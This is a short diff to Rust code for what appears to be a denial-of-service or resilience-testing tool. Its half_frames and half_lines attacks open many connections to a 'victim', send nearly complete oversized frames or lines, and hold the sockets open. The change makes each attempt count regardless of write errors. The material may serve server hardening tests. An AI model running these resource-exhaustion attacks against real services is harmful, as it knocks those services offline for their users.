@@ -71,10 +71,8 @@ fn half_frames(target: Target) -> Attack {
             // All but the last byte, or as much as the victim takes.
             let mut frame = raw::frame_header(LARGEST as u64);
             frame.resize(frame.len() + LARGEST - 1, b'x');
-            let sent = tokio::time::timeout(Duration::from_secs(1), socket.write(&frame)).await;
-            if !matches!(sent, Ok(Err(_))) {
-                target.count();
-            }
+            let _ = tokio::time::timeout(Duration::from_secs(1), socket.write(&frame)).await;
+            target.count();
             open.push(socket);
         }
         Ok(Box::new(open) as _)
@@ -87,9 +85,9 @@ fn half_lines(target: Target) -> Attack {
         let (mut open, line) = (Vec::new(), vec![b'x'; LARGEST - 1]);
         for _ in 0..target.n {
             let Ok(mut stream) = raw::open(target.kind, &target.url).await else { continue };
-            if !matches!(tokio::time::timeout(Duration::from_secs(1), stream.write_all(&line)).await, Ok(Err(_))) {
-                target.count();
-            }
+            // Or as much of it as the victim takes.
+            let _ = tokio::time::timeout(Duration::from_secs(1), stream.write_all(&line)).await;
+            target.count();
             open.push(stream);
         }
         Ok(Box::new(open) as _)
